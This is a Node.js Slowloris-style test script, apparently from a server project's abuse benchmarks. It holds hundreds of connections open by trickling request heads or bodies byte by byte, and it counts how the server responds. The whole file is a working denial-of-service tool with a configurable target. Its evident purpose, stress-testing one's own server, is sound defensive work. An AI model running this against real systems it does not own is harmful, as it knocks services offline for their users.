// Slow clients for bench/abuse/run.sh: CONNECTIONS connections that each send a request head one
// byte every INTERVAL_MS (never finishing it), or finish the head and send the body one byte at a
// time, or go silent after ten bytes; for DURATION_S seconds or until SIGTERM. A connection the
// server closes is opened again. Prints how many were open at the end, how many the server closed,
// and every status it answered.
//   TARGET=127.0.0.1:8080 CONNECTIONS=500 INTERVAL_MS=2000 DURATION_S=60 node slowloris.mjs
import net from 'node:net';

const [host, port] = (process.env.TARGET || '127.0.0.1:8080').split(':');
const connections = Number(process.env.CONNECTIONS || 500);
const interval = Number(process.env.INTERVAL_MS || 2000);
const duration = Number(process.env.DURATION_S || 60) * 1000;
const head = 'POST /api/event HTTP/1.1\r\nHost: x\r\nContent-Type: text/plain\r\nContent-Length: 100000\r\nX-Slow: ';
const statuses = {};
let open = 0;
let closedByServer = 0;
let opened = 0;
let stopping = false;

function slow() {
  const socket = net.connect(Number(port), host);
  opened++;
  let sent = 0;
  let timer;
  let connected = false;
  // A third trickle a head that never ends, a third finish it and trickle the body, a third stop
  // after a few bytes and stay silent (closed by the server's idle timeout, then opened again).
  const kind = ['head', 'body', 'silent'][opened % 3];
  socket.on('connect', () => {
    connected = true;
    open++;
    timer = setInterval(() => {
      if (kind === 'silent' && sent >= 10) return;
      const next = sent < head.length ? head[sent] : kind === 'body' ? (sent === head.length ? 'a\r\n\r\n' : 'x') : 'a';
      sent++;
      socket.write(next);
    }, interval);
  });
  socket.on('data', (data) => {
    const status = /^HTTP\/1\.[01] (\d{3})/.exec(data.toString('latin1'));
    if (status) statuses[status[1]] = (statuses[status[1]] || 0) + 1;
  });
  socket.on('error', () => {});
  socket.on('close', () => {
    clearInterval(timer);
    if (connected) {
      open--;
      if (!stopping) closedByServer++;
    }
    if (!stopping) setTimeout(slow, 100);
  });
}

function finish() {
  const stillOpen = open;
  stopping = true;
  console.log(`slow clients: ${connections} kept, ${opened} opened, ${stillOpen} open at the end, ` +
    `${closedByServer} closed by the server; answers: ${JSON.stringify(statuses)}`);
  const fivexx = Object.entries(statuses).filter(([s]) => s >= '500').reduce((n, [, c]) => n + c, 0);
  console.log(`slow clients 5xx: ${fivexx}`);
  process.exit(0);
}

for (let i = 0; i < connections; i++) slow();
// run.sh ends the slow clients with SIGTERM when the hostile requests are done.
setTimeout(finish, duration);
process.on('SIGTERM', finish);
process.on('SIGINT', finish);
